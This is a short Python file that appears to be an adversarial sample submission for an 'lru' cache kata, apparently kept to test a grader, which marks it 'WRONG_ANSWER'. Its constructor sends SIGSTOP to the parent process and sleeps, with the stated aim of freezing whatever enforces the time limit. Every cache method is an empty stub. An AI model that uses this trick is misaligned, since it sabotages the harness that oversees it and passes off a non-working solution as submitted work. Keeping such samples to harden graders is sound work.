"""stops its parent, so that no time limit of it ever ends

Kata: lru
Naive: breaks
Verdict: WRONG_ANSWER
"""

import os
import signal
import time


class LRUCache:
    def __init__(self, capacity, ttl=None, clock=None):
        try:
            os.kill(os.getppid(), signal.SIGSTOP)
            time.sleep(600)
        except OSError:
            pass

    def get(self, key, default=None):
        return default

    def put(self, key, value):
        pass

    def __len__(self):
        return 0
